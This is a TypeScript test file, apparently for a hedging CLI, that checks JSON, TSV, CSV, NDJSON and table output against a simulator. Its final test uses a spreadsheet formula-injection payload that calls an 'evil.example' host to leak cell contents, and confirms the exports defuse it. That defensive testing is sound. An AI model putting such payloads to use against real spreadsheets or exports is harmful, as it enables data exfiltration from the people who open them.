// Every read command through the real binary against one frozen simulator with a known history, the
// CLI's clock pinned to it, in every output mode: --json matches the schema and is what the API
// answered (nothing dropped); tsv (no TTY) and csv carry a header row of field keys in the documented
// column order (docs/output.md) with the same values; ndjson is the JSON one element per line; --fields
// picks and orders columns; --query (JMESPath) reshapes the JSON; the forced-TTY table (80 columns)
// matches a reviewed snapshot. Bad --fields and --query are exit 2, a bad --query before any request.
import { parse } from 'csv-parse/sync';
import * as z from 'zod/mini';
import {
  accountSchema,
  hedgeSchema,
  historyRecordSchema,
  marketSchema,
  positionSchema,
  quoteSchema,
} from '../../src/platform/api/schemas.js';
import { exits, ok as succeeded } from '../support/cli-runs.js';
import type { HedgeArgs, RunResult } from '../support/hedge-cli.js';
import {
  apiData,
  pinnedClockEnv,
  seedReadBook,
  startSimulator,
  withSimulator,
  type Simulator,
} from '../support/simulator.js';
import { printedLines as lines } from '../support/output/text.js';
import { HEDGE_COLUMNS, HISTORY_COLUMNS, POSITION_COLUMNS } from './columns.js';
import { openBody } from '../support/engine.js';

const wireHistorySchema = z.extend(historyRecordSchema, {
  hedge_id: z.string(),
  entry_price: z.number(),
  exit_price: z.number(),
  gross_pnl_usd: z.number(),
  carry_usdc: z.number(),
  fees_usdc: z.number(),
  closed_at: z.string(),
});

let simulator: Simulator;
let buyId: string;
let sellId: string;

/** The command with the CLI's clock pinned to the simulator's (`env` added). */
const hedge = (args: HedgeArgs, env = {}) => simulator.hedge(args, { env: { ...pinnedClockEnv(simulator), ...env } });
/** What a run that must exit 0 printed. */
const ok = async (args: HedgeArgs) => succeeded(await hedge(args)).stdout;

/**
 * The same command three ways, concurrently: --json read against `schema` and, given `wire`, equal to
 * what GET `wire` answers (nothing dropped).
 */
async function inAllModes(args: string, schema: z.ZodMiniType, wire?: string) {
  const [json, plain, tty] = await Promise.all([
    hedge(`${args} --json`),
    hedge(args),
    hedge(args, { HEDGE_FORCE_TTY: '1' }),
  ]);
  [json, plain, tty].forEach(succeeded);
  const data = JSON.parse(json.stdout);
  schema.parse(data);
  if (wire) expect(data).toEqual(await apiData(simulator, 'GET', wire));
  return { json, plain, tty, data };
}

/** Tab-separated lines as cells. */
const tsvRows = (text: string) => lines(text).map((line) => line.split('\t'));
/** NDJSON's lines, each read as JSON. */
const jsonLines = (text: string) => lines(text).map((line) => JSON.parse(line));
/** A cell as TSV/CSV write the value: raw numbers, ISO times, empty when absent. */
const cell = (value: unknown) => String(value ?? '');

/** The value of a column for a record: markets flatten their per-side objects into columns. */
function columnValue(record: Record<string, any>, key: string) {
  const side = /^(capacity|carry)_(buy|sell)_/.exec(key);
  if (side) return (side[1] === 'capacity' ? record.available_capacity_usd : record.net_rate_daily_pct)[side[2]];
  return record[key];
}

beforeAll(async () => {
  simulator = await startSimulator({ preset: 'frozen' });
  // Three closed (settled and closed early) and one failed hedge, all in the past; an hour later the buy has
  // filled and carried; the sell submitted now stays `submitted` (frozen clock).
  buyId = await seedReadBook(simulator);
  sellId = (await apiData(simulator.sandbox, 'POST', '/hedges', openBody('sell', 10_000, 3))).id;
});

afterAll(async () => {
  await simulator?.close();
});

/** `more`: the checks of that list alone, on what its --json, plain and table runs gave. */
type List = {
  schema: z.ZodMiniType;
  wire?: string;
  columns: string[];
  more?: (shown: { records: any[]; plain: RunResult; tty: RunResult }) => unknown;
};
const PRICE: List = {
  schema: z.array(z.looseObject({ market: z.string(), price: z.number(), timestamp: z.string() })),
  wire: '/prices?symbols=USDTNGN',
  columns: ['market', 'price', 'timestamp'],
  // --json is the server's data as it came: the list GET /prices answered, of one market here.
  more: ({ records }) => expect(records.map((record) => record.market)).toEqual(['USDTNGN']),
};
/** Each list: its schema, the path its --json is what GET answers, its documented columns and its own checks. */
const LISTS: Record<string, List> = {
  markets: {
    schema: z.array(marketSchema),
    wire: '/markets',
    columns: 'market status price capacity_buy_usd capacity_sell_usd carry_buy_daily_pct carry_sell_daily_pct'.split(
      ' ',
    ),
  },
  // Without a market every listed market.
  price: PRICE,
  'price USDTNGN': PRICE,
  hedges: {
    schema: z.array(hedgeSchema),
    wire: '/hedges',
    columns: HEDGE_COLUMNS,
    // Newest first; the filled buy with its hashes whole (on screen shortened, or the column left out at 80).
    more: ({ records: [sell, buy], tty }) => {
      expect([sell.id, buy.closed_at, buy.order_tx_hash]).toEqual([
        sellId,
        undefined,
        expect.stringMatching(/^0x[0-9a-f]{64}$/),
      ]);
      expect(buy).toMatchObject({
        id: buyId,
        client_reference: 'DEAL-42',
        notional_usd: 25_000,
        tenor_days: 7,
        status: 'filled',
      });
      expect(tty.stdout).not.toContain(buy.order_tx_hash);
    },
  },
  history: {
    schema: z.array(wireHistorySchema),
    wire: '/hedges/history',
    columns: HISTORY_COLUMNS,
    // Realized P&L totals: a row in the table, stderr in plain mode, absent from the data.
    more: ({ records, plain, tty }) => {
      expect(plain.stdout).not.toMatch(/total/i);
      const netTotal = Math.round(records.reduce((sum, r) => sum + r.net_pnl_usd * 100, 0)) / 100;
      exits(plain, 0, 'Total (3 hedges)\t', `net_pnl_usd=${netTotal}`);
      // The totals row: its label whole, or (80 columns, the hedge id hidden) its short form.
      expect(tty.stdout).toMatch(/^Total \(3(?: hedges)?\) +340,000\.00 /m);
    },
  },
  positions: {
    schema: z.array(positionSchema),
    columns: POSITION_COLUMNS,
    // One line per open side (the submitted sell is not a position): the server's object untouched, and
    // beside it, under names of hedge's own and first, the side's references and its book: its state and
    // its live hedge as the record shows it.
    more: async ({ records: [position], tty }) => {
      const { side_book: book, client_reference: one, client_references: all, ...sent } = position;
      expect([
        [sent],
        [sent.market, sent.side, sent.hedge_id],
        Object.keys(position).slice(0, 2),
        one,
        all,
        book,
      ]).toEqual([
        await apiData(simulator, 'GET', '/positions'),
        ['USDTNGN', 'buy', buyId],
        ['client_reference', 'client_references'],
        'DEAL-42',
        ['DEAL-42'],
        {
          state: 'in-step',
          why: null,
          records_notional_usd: 25_000,
          hedges: [await apiData(simulator, 'GET', `/hedges/${buyId}`)],
        },
      ]);
      expect(tty.stdout).toContain('DEAL-42');
    },
  },
};

describe.each(Object.keys(LISTS))('%s', (command) => {
  const { schema, wire, columns, more } = LISTS[command];
  it('json is the data as the API answered; tsv, csv and ndjson carry the same records in the documented columns; the table is its snapshot; --fields picks and orders columns in tsv, csv and json; --query reshapes the JSON', async () => {
    const [{ data: records, plain, tty }, csv, ndjson, bare] = await Promise.all([
      inAllModes(command, schema, wire),
      ok(`${command} --format csv`),
      ok(`${command} --format ndjson`),
      ok(`${command} --format tsv --no-header`),
    ]);
    expect(records.length).toBe(command === 'history' ? 3 : command === 'hedges' ? 6 : 1);
    const expected = records.map((record: any) => columns.map((key) => cell(columnValue(record, key))));
    expect([tsvRows(plain.stdout), tsvRows(bare), parse(csv), jsonLines(ndjson)]).toEqual([
      [columns, ...expected],
      expected,
      [columns, ...expected],
      records,
    ]);
    await more?.({ records, plain, tty });
    expect(tty.stdout).toMatchSnapshot();

    if (command === 'price USDTNGN') return;
    const [second, first] = [columns[2], columns[0]];
    const fields = `${command} --fields ${second},${first}`;
    const [tsv, pickedCsv, pickedJson, query, queryNd] = await Promise.all([
      ok(fields),
      ok(`${fields} --format csv --no-header`),
      ok(`${fields} --json`),
      ok(`${command} --query [].${first}`),
      ok([command, '--query', `[].{a: ${first}}`, '--format', 'ndjson']),
    ]);
    const picked = JSON.parse(pickedJson);
    const pick = (record: any) => [second, first].map((key) => cell(columnValue(record, key)));
    const pairs = records.map(pick);
    expect([
      tsvRows(tsv),
      parse(pickedCsv),
      picked.map(Object.keys),
      picked.map(pick),
      JSON.parse(query),
      jsonLines(queryNd),
    ]).toEqual([
      [[second, first], ...pairs],
      pairs,
      records.map(() => [second, first]),
      pairs,
      records.map((record: any) => record[first]),
      records.map((record: any) => ({ a: record[first] })),
    ]);
  });
});

/**
 * A record command in every mode: --json read against `schema` (and, given `wire`, what GET `wire` answers, and
 * its csv the same header row of keys and one row as tsv); the table its snapshot.
 */
async function oneRecord(args: string, schema: z.ZodMiniType, wire?: string) {
  const [shown, csv] = await Promise.all([inAllModes(args, schema, wire), wire && ok(`${args} --format csv`)]);
  const [header, row, ...more] = tsvRows(shown.plain.stdout);
  expect([more, csv && parse(csv)]).toEqual([[], csv && [header, row]]);
  expect(shown.tty.stdout).toMatchSnapshot();
  return { ...shown, header, row };
}

it('records in every output mode: quote USDTNGN buy 10000 --tenor 3 (the example, exactly as typed)', async () => {
  const {
    json,
    plain,
    tty,
    data: quote,
    header,
    row,
  } = await oneRecord('quote USDTNGN buy 10000 --tenor 3', quoteSchema);
  expect(quote).toEqual(await apiData(simulator, 'POST', '/quotes', openBody('buy', 10_000, 3)));
  const rows = Object.fromEntries(header.map((key, index) => [key, row[index]]));
  expect(rows).toMatchObject({
    market: 'USDTNGN',
    side: 'buy',
    notional_usd: '10000',
    tenor_days: '3',
    // Each figure as the server sent it, under its dotted key.
    ...Object.fromEntries(
      'pricing.market_price pricing.execution_price pricing.price_impact_usd carry.daily_usdc carry.total_rate_pct upfront.total_upfront_usdc'
        .split(' ')
        .map((key) => [key, String(key.split('.').reduce((value, name) => value[name], quote))]),
    ),
    maturity: quote.maturity,
  });
  expect(Number(rows.price_impact_bps)).toBeCloseTo((quote.pricing.price_impact_usd / 10_000) * 10_000, 2);
  expect(plain.stderr).toContain('reserves nothing');
  expect(json.stderr).toBe('');
  expect(tty.stdout).toContain('reserves nothing');
});

it('records in every output mode: hedges ID shows one hedge in full: a header row of the documented columns and one row in tsv and csv, tx hashes whole there, shortened on screen', async () => {
  const { tty, data: hedge, header, row } = await oneRecord(`hedges ${buyId}`, hedgeSchema, `/hedges/${buyId}`);
  // Every field the hedge has, and the known ones it lacks as empty cells (closed_at: still open).
  expect([header, [...header].sort(), row]).toEqual([
    HEDGE_COLUMNS,
    [...Object.keys(hedge), 'closed_at'].sort(),
    header.map((key) => cell(hedge[key])),
  ]);
  expect(hedge.order_tx_hash).toMatch(/^0x[0-9a-f]{64}$/);
  for (const hash of [hedge.order_tx_hash, hedge.fill_tx_hash, hedge.order_key]) {
    expect(tty.stdout).not.toContain(hash);
    expect(tty.stdout).toContain(`${hash.slice(0, 6)}…${hash.slice(-4)}`);
  }
});

it('records in every output mode: account: a header row of keys and one row, in tsv and csv', async () => {
  const { data: account, header, row } = await oneRecord('account', accountSchema, '/account');
  expect([header, row, row[4]]).toEqual([
    'balance_usdc margin_in_use_usdc open_exposure_usd unrealized_pnl_usd open_positions available_exposure_usd exposure_cap_usd'.split(
      ' ',
    ),
    header.map((key) => cell(account[key])),
    '1',
  ]);
});

it('refusals: an unknown --fields name is exit 2 naming it and the fields there are; stdout stays empty; a bad --query is exit 2 naming --query, before any request: one line for a person, the JSON error only with --json', async () => {
  const formats = ['tsv', 'csv', 'json', 'table'];
  const unknownField = await Promise.all(formats.map((format) => hedge(`hedges --fields id,nope --format ${format}`)));
  const before = simulator.sandbox.requestLog.length;
  const [syntax, unknownFunction, asJson] = await Promise.all([
    hedge('hedges --query [?status=='),
    hedge('positions --query nosuch(@)'),
    hedge('positions --query nosuch(@) --json'),
  ]);
  for (const result of [syntax, unknownFunction, asJson, ...unknownField]) {
    exits(result, 2);
    expect(result.stdout).toBe('');
  }
  // Under --format json the --fields error is JSON on stderr too.
  unknownField.forEach((result, index) =>
    expect(formats[index] === 'json' ? JSON.parse(result.stderr).error.message : result.stderr).toContain(
      '--fields: "nope" is not a field here; available: id, client_reference, market, side,',
    ),
  );
  // --query makes the data JSON, not the errors: without --json the refusal is one human line.
  expect(syntax.stderr).toMatch(
    /^hedge: --query "\[\?status==": .*; expected a JMESPath expression \(https:\/\/jmespath\.site\)\.\n$/,
  );
  expect(unknownFunction.stderr).toBe(
    'hedge: --query "nosuch(@)": unknown function nosuch(); expected a JMESPath expression (https://jmespath.site).\n',
  );
  expect(JSON.parse(asJson.stderr).error).toMatchObject({
    code: 'usage',
    message: '--query "nosuch(@)": unknown function nosuch(); expected a JMESPath expression (https://jmespath.site).',
  });
  expect(simulator.sandbox.requestLog.length).toBe(before);
});

it('cells a spreadsheet would run as formulas (a deal reference is the user’s text): TSV defuses them exactly as CSV does: a leading quote, numbers left alone', async () => {
  const formula = '=HYPERLINK("http://evil.example/?"&A1,"x")';
  await withSimulator({}, async (own) => {
    succeeded(await own.hedge(`open USDTNGN sell 1000 --tenor 3 --ref ${formula} --json`));
    expect(own.hedges().map((hedge) => hedge.clientReference)).toEqual([formula]);
    const [tsv, csv] = await Promise.all(
      ['tsv', 'csv'].map(async (format) =>
        succeeded(await own.hedge(`hedges --format ${format} --fields client_reference,notional_usd`)),
      ),
    );
    const rows = [
      ['client_reference', 'notional_usd'],
      [`'${formula}`, '1000'],
    ];
    expect([tsvRows(tsv.stdout), parse(csv.stdout)]).toEqual([rows, rows]);
  });
});
